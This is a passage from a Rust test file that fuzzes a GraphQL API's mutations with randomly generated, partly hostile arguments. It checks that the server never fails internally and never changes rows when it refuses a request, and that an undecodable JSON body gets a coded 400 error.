    let cases = setting("CANOPY_FUZZ_CASES", CASES as u64) as usize;
    let schema = schema();
    let mut world = World::build(pool).await;
    let started = std::time::Instant::now();
    let mut failures = Vec::new();
    // Per mutation: calls, refused.
    let mut counts: BTreeMap<&str, [usize; 2]> = BTreeMap::new();
    for name in group {
        let mutation = schema
            .mutations
            .iter()
            .find(|m| m.name == *name)
            .unwrap_or_else(|| panic!("{name} is not a mutation of schema.graphql"));
        world.replenish().await;
        let mut before = world.digest().await;
        let cases = match HASHING.contains(name) {
            true => cases / 2,
            false => cases,
        };
        for case in 0..cases {
            let outcome = run_case(&schema, &mut world, mutation, seed, case, &before).await;
            let count = counts.entry(name).or_default();
            count[0] += 1;
            match outcome {
                Outcome::Refused => count[1] += 1,
                Outcome::Done(after) => before = after,
                Outcome::Failed(report, after) => {
                    failures.push(report);
                    before = after;
                }
            }
            if world.ids.of(NodeKind::Customer).len() < 3 || world.ids.of(NodeKind::User).len() < 3
            {
                world.replenish().await;
                before = world.digest().await;
            }
        }
    }
    let total: usize = counts.values().map(|c| c[0]).sum();
    let mut summary = format!(
        "fuzzed {} mutations, {total} calls in {:.1}s, seed {seed:#x}",
        counts.len(),
        started.elapsed().as_secs_f64()
    );
    for (name, [calls, refused]) in &counts {
        write!(summary, "\n  {name}: {calls} calls, {refused} refused").unwrap();
    }
    eprintln!("{summary}");
    assert!(
        failures.is_empty(),
        "{} of {} fuzzed calls broke a rule:\n\n{}",
        failures.len(),
        total,
        failures.join("\n\n")
    );
}

enum Outcome {
    Refused,
    /// The mutation did something: the digest after it.
    Done(String),
    Failed(String, String),
}

async fn run_case(
    schema: &Schema,
    world: &mut World,
    mutation: &MutationField,
    seed: u64,
    case: usize,
    before: &str,
) -> Outcome {
    let mut rng = StdRng::seed_from_u64(case_seed(seed, &mutation.name, case));
    let public = PUBLIC.contains(&mutation.name.as_str());
    let anonymous = rng.random_bool(if public { 0.7 } else { 0.15 });
    let inline = rng.random_bool(0.2);
    let hostility = *[0.0, 0.0, 0.15, 0.4, 0.8].choose(&mut rng).unwrap();
    let unique = world.unique() * 1_000;
    let mut generator = Gen {
        rng,
        world,
        schema,
        mutation: &mutation.name,
        hostility,
        huge: false,
        unique,
    };
    let mut declarations = Vec::new();
    let mut arguments = Vec::new();
    let mut variables = Map::new();
    for arg in &mutation.args {
        let Some(value) = generator.value(arg, 0) else {
            continue;
        };
        if inline {
            arguments.push(format!(
                "{}: {}",
                arg.name,
                literal(schema, &value, Some(&arg.ty))
            ));
        } else {
            declarations.push(format!("${}: {}", arg.name, arg.ty));
            arguments.push(format!("{0}: ${0}", arg.name));
            variables.insert(arg.name.clone(), value);
        }
    }
    let query = format!(
        "mutation Fuzz{} {{ probe: {}{}{} }}",
        match declarations.is_empty() {
            true => String::new(),
            false => format!("({})", declarations.join(", ")),
        },
        mutation.name,
        match arguments.is_empty() {
            true => String::new(),
            false => format!("({})", arguments.join(", ")),
        },
        schema.selection(&mutation.returns, 2),
    );
    let variables = Value::Object(variables);
    let context = || {
        format!(
            "seed {seed:#x}, {} case {case}, {}:\n  query: {}\n  variables: {}",
            mutation.name,
            if anonymous {
                "anonymous"
            } else {
                "all-scopes key"
            },
            brief_text(&query),
            brief(&variables),
        )
    };
    let body = serde_json::to_string(&json!({
        "query": query,
        "variables": variables,
        "operationName": "Fuzz",
    }))
    .unwrap()
    .replace(LONE_SURROGATE, "\\ud800");
    let app = &world.app;
    let mut request = app
        .client
        .post(app.url("/graphql"))
        .header("content-type", "application/json")
        .body(body);
    if !anonymous {
        request = request.bearer_auth(&app.tenant.api_key);
    }
    let response = match request.send().await {
        Ok(response) => response,
        Err(error) => {
            let after = world.digest().await;
            return Outcome::Failed(
                format!("{}\n  no answer (a panic?): {error}", context()),
                after,
            );
        }
    };
    let status = response.status();
    let text = response.text().await.unwrap_or_default();
    let mut problems = Vec::new();
    if status.is_server_error() {
        problems.push(format!("status {status}"));
    }
    let answer: Value = serde_json::from_str(&text).unwrap_or_else(|_| {
        problems.push(format!("status {status} with a body that is not JSON"));
        Value::Null
    });
    let errors = answer["errors"].as_array().cloned().unwrap_or_default();
    for error in &errors {
        match error["extensions"]["code"].as_str() {
            None => problems.push(format!("an error without a code: {error}")),
            Some("INTERNAL") => problems.push(format!("an INTERNAL error: {error}")),
            Some(_) => {}
        }
    }
    let refused = answer.is_null() || (!errors.is_empty() && answer["data"]["probe"].is_null());
    let after = world.digest().await;
    if refused && after != before {
        problems.push(format!(
            "refused, yet rows changed:\n{}",
            digest_difference(before, &after)
        ));
    }
    if !refused {
        world.refresh().await;
    }
    match (problems.is_empty(), refused) {
        (true, true) => Outcome::Refused,
        (true, false) => Outcome::Done(after),
        (false, _) => Outcome::Failed(
            format!(
                "{}\n  {}\n  answer ({status}): {}",
                context(),
                problems.join("\n  "),
                brief_text(&text)
            ),
            after,
        ),
    }
}

/// The lines of two digests that differ.
fn digest_difference(before: &str, after: &str) -> String {
    let split = |digest: &str| -> BTreeSet<String> {
        digest
            .lines()
            .flat_map(|line| {
                let (table, rows) = line.split_once(": ").unwrap_or((line, ""));
                rows.split("\", \"")
                    .map(move |row| format!("{table}: {row}"))
                    .collect::<Vec<_>>()
            })
            .collect()
    };
    let (before, after) = (split(before), split(after));
    let mut out = String::new();
    for row in before.difference(&after) {
        writeln!(out, "    - {}", brief_text(row)).unwrap();
    }
    for row in after.difference(&before) {
        writeln!(out, "    + {}", brief_text(row)).unwrap();
    }
    out
}

#[tokio::test]
async fn fuzzed_customer_mutations_never_fail_inside_nor_change_rows_when_refused() {
    let db = TestDb::new().await;
    let pool = db.pool();
    fuzz(pool, CUSTOMER_MUTATIONS).await;
}

#[tokio::test]
async fn fuzzed_user_mutations_never_fail_inside_nor_change_rows_when_refused() {
    let db = TestDb::new().await;
    let pool = db.pool();
    fuzz(pool, USER_MUTATIONS).await;
}

#[tokio::test]
async fn fuzzed_account_tenant_job_and_key_mutations_never_fail_inside_nor_change_rows_when_refused()
 {
    let db = TestDb::new().await;
    let pool = db.pool();
    fuzz(pool, OTHER_MUTATIONS).await;
}

/// A body that is JSON the server cannot decode (here a lone UTF-16
/// surrogate, `\ud800`, in a variable's string) is answered 400 with a
/// coded JSON error, not the parser's text, and changes nothing.
#[tokio::test]
async fn a_body_json_cannot_decode_is_answered_with_a_coded_json_error() {
    let db = TestDb::new().await;
    let pool = db.pool();
    let app = TestApp::spawn(pool).await;
    let before = app.snapshot().await;
    let response = app
        .client
        .post(app.url("/graphql"))
        .header("content-type", "application/json")
        .bearer_auth(&app.tenant.api_key)
        .body(
            r#"{"query":"mutation($n: String) { updateTenant(input: { name: $n }) { name } }","variables":{"n":"\ud800"}}"#,
        )
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 400);
    let text = response.text().await.unwrap();
    let body: Value =
        serde_json::from_str(&text).unwrap_or_else(|_| panic!("the body is not JSON: {text}"));
    assert!(
        body["errors"][0]["extensions"]["code"].is_string(),
        "an error without a code: {body}"
    );
    assert_eq!(app.snapshot().await, before);
}
